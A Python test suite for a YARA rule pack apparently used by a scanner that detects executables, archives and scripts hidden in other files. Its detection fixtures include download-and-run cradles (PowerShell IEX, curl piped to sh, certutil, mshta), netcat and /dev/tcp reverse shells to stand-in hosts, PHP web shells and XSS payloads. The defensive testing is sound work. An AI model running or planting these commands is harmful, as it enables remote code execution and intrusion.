"""The rule pack and its validators: what fires, what must not, and that nothing breaks them."""

from __future__ import annotations

import base64
import importlib.util
import io
import marshal
import mmap
import re
import struct
import sys
import sysconfig
import tarfile
import tempfile
import time
import zipapp
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pypdf
import pytest
import yara_x
from hypothesis import given, settings
from hypothesis import strategies as st

from dicomguard import scan_bytes
from dicomguard.gather import Where
from dicomguard.model import Category, Confidence, Severity
from dicomguard.payloads.payload import Payload
from dicomguard.payloads.validators import VALIDATORS
from fixtures.documents import ACTIVE
from fixtures.documents import HONEST as HONEST_DOCUMENTS
from fixtures.executables import dex_head
from fixtures.formats import iso_descriptors

RULES = Path(__file__).parents[1] / "rules"
PLACES = set(Where)
REQUIRED_META = {
    "id", "title", "category", "severity", "confidence", "where", "attack", "reference", "why",
}  # fmt: skip
OPTIONAL_META = {"validator", "polyglot", "polyglot_severity", "not_in"}


# --- running the pack -----------------------------------------------------------------------------


@cache
def pack() -> yara_x.Rules:
    compiler = yara_x.Compiler()
    for path in sorted(RULES.glob("*.yar")):
        compiler.add_source(path.read_text())
    return compiler.build()


@cache
def metas() -> dict[str, dict[str, str]]:
    return {rule.identifier: dict(rule.metadata) for rule in pack()}


def triggers(data: bytes) -> Iterator[tuple[str, int, int]]:
    """Rule, offset and length of every match."""
    scanner = yara_x.Scanner(pack())
    for rule in scanner.scan(data).matching_rules:
        for pattern in rule.patterns:
            for match in pattern.matches:
                yield rule.identifier, match.offset, match.length


@dataclass(frozen=True)
class Hit:
    rule: str
    id: str
    payload: Payload


def findings(data: bytes, low: int = 0, high: int | None = None) -> list[Hit]:
    """What the pack says of one value ``[low, high)`` of the data, validators included."""
    high = len(data) if high is None else high
    found = []
    for rule, offset, length in triggers(data):
        if not low <= offset < high:
            continue
        meta = metas()[rule]
        if "validator" not in meta:
            found.append(
                Hit(
                    rule,
                    meta["id"],
                    Payload(start=offset, end=offset + length, description="", confirmed=False),
                )
            )
            continue
        payload = VALIDATORS[meta["validator"]](data, offset, low, high)
        if payload is not None:
            whole = payload.whole_file and "polyglot" in meta
            found.append(Hit(rule, meta["polyglot"] if whole else meta["id"], payload))
    return found


# --- real files -----------------------------------------------------------------------------------


def site_packages() -> Path:
    return Path(sysconfig.get_path("purelib"))


def real_pe(name: str = "distlib/t64.exe") -> bytes:
    return (site_packages() / name).read_bytes()


def real_elf() -> bytes:
    return Path(sys.executable).resolve().read_bytes()


def make_zip(*names: str, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name in names:
            archive.writestr(name, f"content of {name}\n" * 3)
    return buffer.getvalue()


def make_zipapp() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        source, target = Path(folder, "app"), Path(folder, "app.pyz")
        source.mkdir()
        (source / "__main__.py").write_text("print('run')\n")
        zipapp.create_archive(source, target)
        return target.read_bytes()


def make_zip64() -> bytes:
    """A ZIP as Python writes it for more members than 16 bits count."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(0x10000):
            archive.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return buffer.getvalue()


def make_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=72, height=72)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- formats with no real file at hand: the least that their specification asks for --------------


def make_elf32_big_endian(*, ident: bytes = b"\1\2\1") -> bytes:
    header = (
        b"\x7fELF"
        + ident.ljust(12, b"\0")
        + struct.pack(">2H5I6H", 2, 8, 1, 0x1000, 52, 0, 0, 52, 32, 1, 40, 0, 0)
    )  # e_type EXEC, e_machine MIPS, version, entry, phoff, shoff, flags; then the sizes and counts
    load = struct.pack(">8I", 1, 0, 0x1000, 0x1000, 100, 100, 5, 0x1000)  # PT_LOAD, p_filesz 100
    return (header + load).ljust(100, b"\xcc")


def make_elf_object() -> bytes:
    """A relocatable object or kernel module: sections and no program header."""
    header = b"\x7fELF\2\1\1".ljust(16, b"\0") + struct.pack(
        "<2HI3QI6H", 1, 62, 1, 0, 0, 64, 0, 64, 0, 0, 64, 2, 1
    )
    return header + bytes(2 * 64)


def make_macho(order: str = "<", *, wide: bool = True) -> bytes:
    """A Mach-O executable with one segment of 0x200 bytes and nothing else."""
    command = struct.pack(
        order + ("2I16s4Q4I" if wide else "2I16s8I"),
        0x19 if wide else 0x01,
        72 if wide else 56,
        b"__TEXT",
        *(0x1000, 0x1000, 0, 0x200),  # vmaddr, vmsize, fileoff, filesize
        *(5, 5, 0, 0),
    )
    magic = 0xFEEDFACF if wide else 0xFEEDFACE
    cpu = 0x0100000C if wide else 18
    header = struct.pack(order + "7I", magic, cpu, 0, 2, 1, len(command), 0)
    return (header + bytes(4 if wide else 0) + command).ljust(0x200, b"\xcc")


def make_universal(magic: bytes = b"\xca\xfe\xba\xbe") -> bytes:
    thin = make_macho()
    wide = magic.endswith(b"\xbf")
    slices = struct.pack(
        ">2I2QII" if wide else ">5I", 0x0100000C, 0, 0x100, len(thin), 12, *((0,) if wide else ())
    )
    return (magic + struct.pack(">I", 1) + slices).ljust(0x100, b"\0") + thin


def make_class(*, major: int = 61) -> bytes:
    """A class with a long constant, one field with a constant value and a source attribute."""

    def utf8(text: bytes) -> bytes:
        return b"\1" + struct.pack(">H", len(text)) + text

    constants = [
        b"\7" + struct.pack(">H", 2), utf8(b"A"),  # 1, 2
        b"\7" + struct.pack(">H", 4), utf8(b"java/lang/Object"),  # 3, 4
        utf8(b"SourceFile"), utf8(b"A.java"),  # 5, 6
        b"\5" + bytes(8),  # 7 and 8: a long takes two slots
        utf8(b"J"), utf8(b"ConstantValue"),  # 9, 10
    ]  # fmt: skip
    pool = struct.pack(">H", 11) + b"".join(constants)
    source = struct.pack(">HIH", 5, 2, 6)
    constant = struct.pack(">HIH", 10, 2, 7)
    field = struct.pack(">4H", 0x18, 2, 9, 1) + constant
    fields = struct.pack(">5H", 0x21, 1, 3, 0, 1) + field  # flags, this, super, interfaces, count
    methods = struct.pack(">H", 0)
    return (b"\xca\xfe\xba\xbe" + struct.pack(">2H", 0, major) + pool + fields + methods
            + struct.pack(">H", 1) + source)  # fmt: skip


LNK_ID = bytes.fromhex("4c0000000114020000000000c000000000000046")


def make_lnk(*, flags: int = 0xA3, reserved: int = 0) -> bytes:
    """A shortcut with a target, command-line arguments in Unicode and one extra block."""
    header = LNK_ID + struct.pack("<2I24x3I2H2I", flags, 0x20, 0, 0, 1, 0, 0, reserved, 0)
    target = struct.pack("<2H", 2, 0)  # an identifier list of nothing but its end
    info = struct.pack("<I24x", 28)
    arguments = "/c calc".encode("utf-16-le")
    extra = struct.pack("<2I4x", 12, 0xA0000001) + bytes(4)
    return header + target + info + struct.pack("<H", len(arguments) // 2) + arguments + extra


def make_rar4() -> bytes:
    def block(kind: int, flags: int, rest: bytes = b"") -> bytes:
        body = struct.pack("<B2H", kind, flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body

    file = block(0x74, 0x8000, struct.pack("<I", 3) + b"name") + b"abc"  # with three bytes of data
    return b"Rar!\x1a\x07\x00" + block(0x73, 0, bytes(6)) + file + block(0x7B, 0x4000)


def make_rar5() -> bytes:
    def block(content: bytes) -> bytes:
        body = bytes([len(content)]) + content
        return struct.pack("<I", zlib.crc32(body)) + body

    main = block(bytes([1, 0, 0]))
    file = block(bytes([2, 2, 0x80 | 3, 0]) + b"name") + b"abc"  # data size 3 in a padded vint
    return b"Rar!\x1a\x07\x01\x00" + main + file + block(bytes([5, 0, 0]))


def make_7z() -> bytes:
    start = struct.pack("<2QI", 5, 7, 0)  # NextHeaderOffset, NextHeaderSize, NextHeaderCRC
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + bytes(12)


def make_cab(*, version: bytes = b"\3\1", folder: int = 0) -> bytes:
    entry = struct.pack("<2I4H", 5, 0, folder, 0, 0, 0x20) + b"a.exe\0"  # CFFILE
    body = struct.pack("<I2H", 70, 1, 0) + entry + b"\0" * 16  # CFFOLDER, then a data block
    return (b"MSCF" + struct.pack("<5I", 0, 36 + len(body), 0, 44, 0) + version
            + struct.pack("<5H", 1, 1, 0, 0, 0) + body)  # fmt: skip


def make_ole(*, byte_order: int = 0xFFFE, stream: str = "WordDocument") -> bytes:
    """A compound file of a header and one directory sector (root entry and one stream)."""

    def entry(name: str, kind: int) -> bytes:
        encoded = name.encode("utf-16-le")
        return encoded.ljust(64, b"\0") + struct.pack("<HB61x", len(encoded) + 2, kind)

    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(16)
        + struct.pack("<5H6x4I", 0x3E, 3, byte_order, 9, 6, 0, 1, 0, 0)
    )  # versions, byte order, shifts; directory sectors, FAT sectors, directory start, transaction
    return header.ljust(512, b"\xff") + (entry("Root Entry", 5) + entry(stream, 2)).ljust(
        512, b"\0"
    )


def make_tar(*names: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    return buffer.getvalue()


def make_dex() -> bytes:
    rest = bytes(32)
    return dex_head(rest) + rest


def make_pyc() -> bytes:
    code = compile("print(42)", "inert.py", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


WASM = b"\0asm\1\0\0\0\1\4\1`\0\0\3\2\1\0\n\4\1\2\0\x0b"
"""A module with one function that does nothing."""

EICAR = bytes.fromhex(
    "58354f2150254041505b345c505a58353428505e2937434329377d24"
    "45494341522d5354414e444152442d414e544956495255532d544553542d46494c4521"
    "24482b482a"
)
STUB = b"This program cannot be run in DOS mode"
POWERSHELL = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://h/a'))\r\n"


def xor(data: bytes, key: int) -> bytes:
    return bytes(byte ^ key for byte in data)


# --- what fires -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """Bytes that are something, and what is said of them alone and inside other data."""

    rule: str
    make: Callable[[], bytes]
    whole: str
    inside: str
    words: str


SAMPLES = {
    "pe-x64": Sample("pe", real_pe, "POLY-PE", "EMB-PE", "PE32+ executable, x86-64, 6 sections"),
    "pe-x86": Sample("pe", lambda: real_pe("distlib/t32.exe"), "POLY-PE", "EMB-PE",
                     "PE32 executable, x86, 5 sections"),
    "pe-arm": Sample("pe", lambda: real_pe("distlib/t64-arm.exe"), "POLY-PE", "EMB-PE", "ARM64"),
    "elf-real": Sample("elf", real_elf, "POLY-ELF", "EMB-ELF", "ELF 64-bit"),
    "elf-mips": Sample("elf", make_elf32_big_endian, "POLY-ELF", "EMB-ELF",
                       "ELF 32-bit MSB executable, MIPS"),
    "elf-486": Sample("elf", lambda: altered(make_elf32_big_endian(), 18, b"\0\6"), "POLY-ELF",
                      "EMB-ELF", "executable, x86"),
    "elf-golfed": Sample("elf", lambda: make_elf32_big_endian(ident=b"\xff\xff\xff"), "POLY-ELF",
                         "EMB-ELF", "MIPS"),
    "elf-object": Sample("elf", make_elf_object, "POLY-ELF", "EMB-ELF", "object, x86-64"),
    "macho-64": Sample("macho", make_macho, "POLY-MACHO", "EMB-MACHO", "Mach-O executable, ARM64"),
    "macho-32-be": Sample("macho", lambda: make_macho(">", wide=False), "POLY-MACHO", "EMB-MACHO",
                          "Mach-O executable, PowerPC"),
    "macho-64-be": Sample("macho", lambda: make_macho(">"), "POLY-MACHO", "EMB-MACHO", "ARM64"),
    "macho-32": Sample("macho", lambda: make_macho(wide=False), "POLY-MACHO", "EMB-MACHO",
                       "PowerPC"),
    "universal": Sample("macho", make_universal, "POLY-MACHO", "EMB-MACHO",
                        "Mach-O universal binary, ARM64"),
    "universal-64": Sample("macho", lambda: make_universal(b"\xca\xfe\xba\xbf"), "POLY-MACHO",
                           "EMB-MACHO", "universal"),
    "class": Sample("java_class", make_class, "POLY-JAVA", "EMB-CLASS", "version 61"),
    "lnk": Sample("lnk", make_lnk, "POLY-LNK", "EMB-LNK",
                  "Windows shortcut with command-line arguments"),
    "zip": Sample("zip", lambda: make_zip("a.txt", "b.txt"), "POLY-ZIP", "EMB-ARCHIVE",
                  "ZIP archive, 2 members"),
    "zip64": Sample("zip", make_zip64, "POLY-ZIP", "EMB-ARCHIVE", "65536 members"),
    "tar": Sample("tar", lambda: make_tar("a", "b"), "EMB-ARCHIVE", "EMB-ARCHIVE",
                  "tar archive, 2 members"),
    "iso": Sample("disk_image", lambda: bytes(0x8000) + iso_descriptors(), "EMB-ARCHIVE",
                  "EMB-ARCHIVE", "ISO 9660 disk image"),
    "dex": Sample("dex", make_dex, "POLY-DEX", "EMB-DEX", "Dalvik executable"),
    "wasm": Sample("wasm", lambda: WASM, "POLY-WASM", "EMB-WASM", "3 sections"),
    "pyc": Sample("pyc", make_pyc, "POLY-PYC", "EMB-PYC", "compiled Python"),
    "docm": Sample("zip", lambda: make_zip("word/document.xml", "word/vbaProject.bin"), "POLY-ZIP",
                   "EMB-ARCHIVE", "Word document with macros"),
    "xlsx": Sample("zip", lambda: make_zip("xl/workbook.xml"), "POLY-ZIP", "EMB-ARCHIVE", "Excel"),
    "odt": Sample("zip", lambda: make_zip("mimetype", "content.xml"), "POLY-ZIP", "EMB-ARCHIVE",
                  "OpenDocument file"),
    "torch": Sample("zip", lambda: make_zip("model/data.pkl"), "POLY-ZIP", "EMB-ARCHIVE",
                    "PyTorch"),
    "jar": Sample("jar", lambda: make_zip("META-INF/MANIFEST.MF", "A.class"), "POLY-JAR",
                  "EMB-JAR", "Java archive (JAR), 2 members"),
    "apk": Sample("jar", lambda: make_zip("AndroidManifest.xml", "classes.dex"), "POLY-JAR",
                  "EMB-JAR", "Android application"),
    "zipapp": Sample("jar", make_zipapp, "POLY-JAR", "EMB-JAR", "Python application"),
    "rar4": Sample("rar", make_rar4, "POLY-RAR", "POLY-RAR", "RAR 4 archive"),
    "rar5": Sample("rar", make_rar5, "POLY-RAR", "POLY-RAR", "RAR 5 archive"),
    "7z": Sample("sevenzip", make_7z, "POLY-7Z", "EMB-ARCHIVE", "7z archive"),
    "cab": Sample("cab", make_cab, "POLY-CAB", "EMB-ARCHIVE", "Windows cabinet, 1 file"),
    "pdf": Sample("pdf", make_pdf, "POLY-PDF", "EMB-PDF", "PDF 1.3 document"),
    "ole": Sample("ole", make_ole, "POLY-OLE", "EMB-OLE", "Word document"),
    "shebang": Sample("shebang", lambda: b"#!/bin/sh\nexit 7\n", "POLY-SCRIPT-SHEBANG",
                      "EMB-SCRIPT", "script for sh"),
    "shebang-env": Sample("shebang", lambda: b"#! \t /usr/bin/env python3 -u\nprint(1)\n",
                          "POLY-SCRIPT-SHEBANG", "EMB-SCRIPT", "script for env"),
    "powershell": Sample("powershell", lambda: POWERSHELL, "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT",
                         "PowerShell script"),
    "powershell-enc": Sample("powershell", lambda: b"powershell.exe -nop -enc SQBFAFgA",
                             "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "PowerShell script"),
    "powershell-utf16": Sample("powershell", lambda: POWERSHELL.decode().encode("utf-16"),
                               "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "in UTF-16"),
    "batch": Sample("batch", lambda: b"@echo off\r\nstart calc\r\n", "POLY-SCRIPT-NOSHEBANG",
                    "EMB-SCRIPT", "batch script"),
    "batch-words": Sample("batch", lambda: b"cmd.exe /c certutil -decode a %TEMP%\\a.exe",
                          "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "batch script"),
    "vbs": Sample("windows_script", lambda: b'CreateObject("WScript.Shell").Run "calc"',
                  "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "Windows Script Host script"),
    "html": Sample("html_script", lambda: b"<html><script>GetObject('script:a')</script>",
                   "POLY-HTML", "EMB-SCRIPT", "HTML with script"),
    "html-words": Sample("html_script", lambda: b"<b><script>alert(1)</script>",
                         "POLY-HTML", "EMB-SCRIPT", "HTML with script"),
    "hta": Sample("html_script", lambda: b"<HTA:APPLICATION id=a>", "POLY-HTML",
                  "EMB-SCRIPT", "HTML with script"),
    "python": Sample("python", lambda: b"import os\nos.system('id')\n", "POLY-SCRIPT-NOSHEBANG",
                     "EMB-SCRIPT", "Python script"),
    "python-loader": Sample("python", lambda: b"exec(base64.b64decode('aWQ='))",
                            "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "Python script"),
    "perl": Sample("perl", lambda: b"use strict;\nsystem('id');\n", "POLY-SCRIPT-NOSHEBANG",
                   "EMB-SCRIPT", "Perl script"),
    "node": Sample("node", lambda: b"require('child_process').exec('id')",
                   "POLY-SCRIPT-NOSHEBANG", "EMB-SCRIPT", "JavaScript for Node.js"),
    "shell-one-liner": Sample("shell", lambda: b"python3 -c 'print(1)'", "POLY-SCRIPT-NOSHEBANG",
                              "EMB-SCRIPT", "shell script"),
    "php": Sample("php", lambda: b"<?php system($_GET['c']); ?>", "POLY-SCRIPT-NOSHEBANG",
                  "EMB-SCRIPT", "PHP script"),
    "shell": Sample("shell", lambda: b"curl http://h/a | sh\n", "POLY-SCRIPT-NOSHEBANG",
                    "EMB-SCRIPT", "shell script"),
    "shell-tcp": Sample("shell", lambda: b"exec 3<>/dev/tcp/192.0.2.1/80", "POLY-SCRIPT-NOSHEBANG",
                        "EMB-SCRIPT", "shell script"),
}  # fmt: skip


SPELLINGS = {
    "powershell": (
        b"iwr -useb https://h/a.ps1 | iex", b"irm https://h/a.ps1|iex", b"iex (irm https://h/a)",
        b"curl -s http://h/a |\tIEX", b"powershell  -nop -enc SQBF", b"pwsh -nologo -enc SQBF",
        b'"C:\\powershell.exe"\t-c "a"', b"$a = iwr -Uri $u\r\niex $a", b"iex $(iwr http://h)",
    ),
    "batch": (
        b"cmd.exe /c start calc.exe", b"cmd/c start calc", b"cmd  /c  set a=%TEMP%",
        b"certutil  -urlcache -split -f http://h/a a.exe", b"mshta.exe http://h/a.hta",
    ),
    "html_script": (
        b"<script/src=//h/a.js></script>", b'<script>import("//h/a.js")</script>',
        b"<img src=x onerror=alert(1)>", b"<svg/onload = 'alert(1)'>", b"<script/>eval(a)",
        b"<a onmouseover=javascript:a>",
    ),
    "php": (b"<?=`$_GET[0]`?>", b"<?=system('id')?>", b"<? @eval($_POST[0]);", b"<?=$_GET[0]?>"),
    "shell": (
        b"curl  -s http://h/a | sh", b"wget\t'http://h/a' |sh", b"nc -e /bin/sh 192.0.2.1 4444",
        b"nc 192.0.2.1 4444 -c  /usr/bin/bash", b"chmod a+x a; base64  -d <b",
    ),
    "shebang": (
        b"#!/usr/bin/env -S sh #\xe9\ntrue\n", b"#!/usr/bin/perl -w\xa0\n", b"#!/bin/sh\r\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("rule", "script"), [(rule, script) for rule, each in SPELLINGS.items() for script in each]
)
def test_another_spelling_is_the_same_script(rule: str, script: bytes) -> None:
    assert rule in {hit.rule for hit in findings(FRONT + script + BACK, len(FRONT))}
    if b"\n" not in script and rule not in ("shebang", "shell"):
        wide = script.decode().encode("utf-16-le")
        assert rule in {hit.rule for hit in findings(FRONT + wide + BACK, len(FRONT))}


def test_the_second_word_of_a_utf16_script_may_be_far_from_the_first() -> None:
    for gap in (10, 3_000, 100_000, 400_000):
        script = ("New-Object " + "#" * gap + "Net.WebClient").encode("utf-16-le")
        assert {hit.rule for hit in findings(FRONT + script)} == {"powershell"}


FRONT = b"\0\xff\0\x01" * 500
BACK = b"\x01\0\xff\0" * 25


def finding(data: bytes, rule: str, low: int = 0, high: int | None = None) -> Hit:
    """The outermost finding of one rule."""
    return min(
        (hit for hit in findings(data, low, high) if hit.rule == rule),
        key=lambda hit: hit.payload.start,
    )


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_a_file_that_is_one_takes_the_polyglot_id_and_its_true_extent(sample: Sample) -> None:
    data = sample.make()
    hit = finding(data, sample.rule)
    assert hit.id == sample.whole
    assert sample.words in hit.payload.description
    assert (hit.payload.start, hit.payload.end) == (0, len(data))


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_inside_a_value_it_is_found_with_the_same_extent(sample: Sample) -> None:
    content = sample.make()
    data = FRONT + content + BACK
    low, high = len(FRONT), len(FRONT) + len(content)
    hit = finding(data, sample.rule, low, high)
    assert hit.id == sample.inside
    assert sample.words in hit.payload.description
    assert (hit.payload.start, hit.payload.end) == (low, high)


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_a_mapped_file_gives_the_same_answers(sample: Sample, tmp_path: Path) -> None:
    data = FRONT + sample.make() + BACK
    path = tmp_path / "data"
    path.write_bytes(data)
    meta = metas()[sample.rule]
    validator = VALIDATORS[meta["validator"]]
    with path.open("rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
        for rule, offset, _ in triggers(data):
            if rule == sample.rule:
                assert validator(mapped, offset, len(FRONT), len(data)) == validator(
                    data, offset, len(FRONT), len(data)
                )


def test_a_program_cut_short_is_still_found_and_stays_within_the_data() -> None:
    for rule, content in (("pe", real_pe()), ("elf", make_elf32_big_endian()), ("lnk", make_lnk())):
        data = content[: len(content) * 7 // 8]
        assert finding(data, rule).payload.end == len(data)


# --- PE and its traces ----------------------------------------------------------------------------


def pe_header(data: bytes) -> int:
    return int(struct.unpack_from("<I", data, 0x3C)[0])


def spread_pe(gap: bytes) -> bytes:
    """A PE polyglot: the MZ header in the preamble, the PE header behind ``gap``."""
    original = real_pe()
    nt = pe_header(original)
    header = bytearray(original[:128])
    struct.pack_into("<I", header, 0x3C, 128 + len(gap))
    return bytes(header) + gap + original[nt:]


def test_a_pe_header_far_from_its_mz_header_is_a_polyglot_whatever_lies_between() -> None:
    for gap in (b"\0" * 300_000, b"MZ" * 100_000):
        hit = finding(spread_pe(gap), "pe")
        assert (hit.id, hit.payload.start) == ("POLY-PE", 0)
        assert hit.payload.confirmed


def test_a_pe_inside_a_value_is_found_behind_its_own_front_matter() -> None:
    data = FRONT + b"front matter" + real_pe()
    hit = finding(data, "pe", len(FRONT))
    assert (hit.id, hit.payload.start) == ("EMB-PE", len(FRONT) + 12)


def test_a_pe_without_its_mz_header_is_found_but_not_confirmed() -> None:
    data = FRONT + real_pe()[2:]
    hit = finding(data, "pe")
    assert (hit.id, hit.payload.confirmed) == ("EMB-PE", False)
    assert hit.payload.description.endswith("without its MZ header")


def test_the_dos_stub_speaks_only_where_no_pe_does() -> None:
    original = real_pe()
    assert {hit.rule for hit in findings(original)} == {"pe"}
    broken = bytearray(original)
    broken[pe_header(original)] ^= 0xFF
    assert {hit.id for hit in findings(bytes(broken))} == {"EMB-DOS-STUB"}
    for sentence in (STUB, b"This program must be run under Win32"):
        (hit,) = findings(FRONT + sentence)
        assert (hit.id, hit.payload.start) == ("EMB-DOS-STUB", len(FRONT))


@pytest.mark.parametrize("shift", [0, 1, 2])
def test_a_program_in_base64_is_found_at_any_alignment(shift: int) -> None:
    for program in (real_pe()[:4096], real_elf()[:4096]):
        encoded = base64.b64encode(bytes(shift) + program)
        found = {hit.id for hit in findings(FRONT + encoded)}
        # The start of an ELF shows only where the encoder started with it.
        assert found == ({"EMB-ENC-B64"} if shift == 0 or STUB in program else set())


def test_eicar_is_found_anywhere_and_not_in_our_own_rules() -> None:
    (hit,) = findings(FRONT + EICAR + BACK)
    assert (hit.id, hit.payload.start, hit.payload.end) == ("EMB-EICAR", 2000, 2068)
    assert not any(EICAR in path.read_bytes() for path in RULES.iterdir())
    assert findings(EICAR.replace(b"EICAR", b"EICAS")) == []


# --- archives and documents -----------------------------------------------------------------------


def test_a_zip_at_the_end_of_a_file_is_a_polyglot_by_either_convention_of_offsets() -> None:
    relative = FRONT + make_zip("a.txt", "b.txt")  # offsets from the start of the archive
    buffer = io.BytesIO(FRONT)
    with zipfile.ZipFile(buffer, "a") as archive:  # offsets from the start of the file
        archive.writestr("a.txt", "content")
    for data in (relative, buffer.getvalue(), relative + bytes(3)):
        assert zipfile.is_zipfile(io.BytesIO(data))
        hit = finding(data, "zip")
        assert (hit.id, hit.payload.start) == ("POLY-ZIP", len(FRONT))
        assert hit.payload.end == data.rindex(b"PK\5\6") + 22


def test_a_zip_whose_directory_is_not_before_its_end_record_is_found_by_the_offset() -> None:
    original = make_zip("a.txt")
    end_record = original.index(b"PK\5\6")
    hit = finding(original[:end_record] + bytes(40) + original[end_record:], "zip")
    assert (hit.id, hit.payload.start) == ("POLY-ZIP", 0)


def test_a_zip_followed_by_more_than_padding_is_only_embedded() -> None:
    assert finding(make_zip("a.txt") + b"\0\1", "zip").id == "EMB-ARCHIVE"


def spread_zip(*names: str, local: bytes = b"PK\3\4", decoys: int = 0) -> bytes:
    """A zip whose directory begins with members that lead nowhere and sort before the others."""
    original = make_zip(*names)
    directory = original.index(b"PK\1\2")
    dead = bytearray(original[directory : directory + 46])
    struct.pack_into("<3H", dead, 28, 1, 0, 0)  # a name of one byte, no extra field, no comment
    struct.pack_into("<I", dead, 42, 1)
    end_record = bytearray(original[-22:])
    size = struct.unpack_from("<I", end_record, 12)[0] + decoys * (len(dead) + 1)
    struct.pack_into("<I", end_record, 12, size)
    return (
        original[:directory].replace(b"PK\3\4", local)
        + bytes(dead + b"d") * decoys
        + original[directory:-22]
        + end_record
    )


def zip_with(offset: int, new: bytes) -> bytes:
    """A zipapp altered at an offset from its end record."""
    data = make_zip("__main__.py")
    return altered(data, len(data) - 22 + offset, new)


def zip_with_false_locator() -> bytes:
    """A ZIP64 locator that leads nowhere, in the comment of the last member."""
    data, locator = make_zip("__main__.py"), b"PK\6\7" + bytes(12) + b"\1\0\0\0"
    directory = data.index(b"PK\1\2")
    body = altered(data[:-22], directory + 32, struct.pack("<H", len(locator))) + locator
    return body + altered(data[-22:], 12, struct.pack("<I", len(body) - directory))


RUNNABLE_ZIPS = {
    "no member counted": lambda: zip_with(8, bytes(4)),
    "a comment past the end": lambda: zip_with(20, b"\xff\xff"),
    "another name in the local header": lambda: altered(make_zip("__main__.py"), 30, b"X"),
    "a ZIP64 locator to nowhere": zip_with_false_locator,
    "dead members before": lambda: spread_zip("__main__.py", decoys=200),
}


@pytest.mark.parametrize("make", RUNNABLE_ZIPS.values(), ids=RUNNABLE_ZIPS)
def test_what_readers_of_a_zip_ignore_hides_no_program(make: Callable[[], bytes]) -> None:
    data = FRONT + make()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "__main__.py" in archive.namelist()
    hit = finding(data, "jar")
    assert (hit.id, hit.payload.start, hit.payload.end) == ("POLY-JAR", len(FRONT), len(data))
    assert hit.payload.confirmed
    assert [hit for hit in findings(data) if hit.rule == "zip"] == []


def test_a_directory_without_any_local_header_is_found_but_not_confirmed() -> None:
    data = spread_zip("a.txt", local=b"PK\3\5")
    hit = finding(data, "zip")
    assert (hit.payload.start, hit.payload.confirmed) == (data.index(b"PK\1\2"), False)


def test_a_program_by_either_directory_is_a_program() -> None:
    """Java reads the directory before the end record, Android the one at the record's offset."""
    program, plain = make_zip("META-INF/MANIFEST.MF"), make_zip("a.txt")
    for front, behind in ((program, plain), (plain, program)):
        directory = struct.pack("<I", front.index(b"PK\1\2"))
        hit = finding(front + altered(behind, len(behind) - 6, directory), "jar")
        assert "Java archive" in hit.payload.description


def test_a_rar_with_a_header_too_long_to_check_is_not_confirmed() -> None:
    size = 2000
    block = b"\xd0\x0f" + b"\1\0\0".ljust(size, b"\0")  # the size as a variable-length integer
    data = b"Rar!\x1a\x07\x01\0" + bytes(4) + block
    assert not finding(data, "rar").payload.confirmed


def test_an_encrypted_rar_reaches_to_the_end_of_its_value() -> None:
    main = struct.pack("<B2H", 0x73, 0x80, 13) + bytes(6)
    data = b"Rar!\x1a\x07\x00" + struct.pack("<H", zlib.crc32(main) & 0xFFFF) + main + b"\xaa" * 99
    payload = finding(data + BACK, "rar", 0, len(data)).payload
    assert (payload.end, payload.description) == (len(data), "RAR 4 archive, encrypted")


def test_a_class_too_long_to_follow_reaches_to_the_end_of_its_value() -> None:
    header = b"\xca\xfe\xba\xbe" + struct.pack(">3H", 0, 61, 60_000)
    data = header + b"\3\0\0\0\0" * 2000
    assert finding(data + BACK, "java_class", 0, len(data)).payload.end == len(data)


def test_an_interpreter_that_nobody_knows_is_not_confirmed() -> None:
    for line, confirmed in ((b"#!/usr/bin/perl5.36-x86", True), (b"#!/opt/vendor/run", False)):
        hit = finding(line + b" -x\nbody", "shebang")
        assert (hit.id, hit.payload.confirmed) == ("POLY-SCRIPT-SHEBANG", confirmed)


def test_an_encrypted_member_is_named() -> None:
    data = bytearray(make_zip("a.txt"))
    data[data.index(b"PK\1\2") + 8] |= 1
    assert finding(bytes(data), "zip").payload.description == "ZIP archive, 1 member, encrypted"


def test_a_rar_beyond_the_reach_of_readers_is_only_embedded() -> None:
    assert finding(bytes(1 << 20) + make_rar5(), "rar").id == "EMB-ARCHIVE"


def test_a_pdf_is_a_polyglot_in_the_first_1024_bytes_only() -> None:
    for front, expected in ((0, "POLY-PDF"), (1023, "POLY-PDF"), (1024, "EMB-PDF")):
        assert finding(bytes(front) + make_pdf() + BACK * 100, "pdf").id == expected


def test_a_pdf_whose_objects_lie_far_behind_is_a_polyglot_but_no_payload_elsewhere() -> None:
    spread = b"%PDF-1.7\n" + bytes(100_000) + b"\n1 0 obj\n<<>>\nendobj\n" + bytes(5000)
    assert finding(bytes(132) + spread, "pdf").id == "POLY-PDF"
    assert findings(bytes(2000) + spread) == []


